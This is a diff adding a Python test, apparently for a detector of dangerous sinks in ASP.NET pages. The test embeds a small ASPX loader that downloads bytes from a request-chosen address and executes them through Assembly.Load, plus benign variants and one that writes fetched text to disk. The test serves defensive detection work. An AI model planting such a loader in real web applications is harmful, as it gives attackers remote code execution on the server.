@@ -513,3 +513,23 @@ def test_service_without_dangerous_use_of_its_parameters() -> None:
         '    WebMethodAttribute function Lit() : String { return eval("1+1"); }\n}'
     )
     assert _sinks(page, ".asmx") == set()
+
+
+def test_assembly_downloaded_from_a_request_address_is_loaded() -> None:
+    """X7: loading the bytes a page downloads from an address the request chose (Sharp4WebCmd shape)
+    is a loader; what a server answered stays no input for the other sinks."""
+    loader = (
+        '<%@ Page Language="C#" %><% var b = new System.Net.WebClient().DownloadData(Request.Form["u"]);\n'
+        "   System.Reflection.Assembly.Load(b).EntryPoint.Invoke(null, null); %>"
+    )
+    assert "assembly-load" in _sinks(loader)
+    fixed = (
+        '<%@ Page Language="C#" %><% var b = new System.Net.WebClient().DownloadString("https://example.invalid/n");\n'
+        '   Response.Write(b); var a = System.Reflection.Assembly.LoadFrom(Server.MapPath("~/bin/Example.dll")); %>'
+    )
+    assert _sinks(fixed) == set()
+    saved = (
+        '<%@ Page Language="C#" %><% var t = new System.Net.WebClient().DownloadString(Request["u"]);\n'
+        '   System.IO.File.WriteAllText(Server.MapPath("~/App_Data/x.txt"), t); %>'
+    )
+    assert _sinks(saved) == {"http-out"}
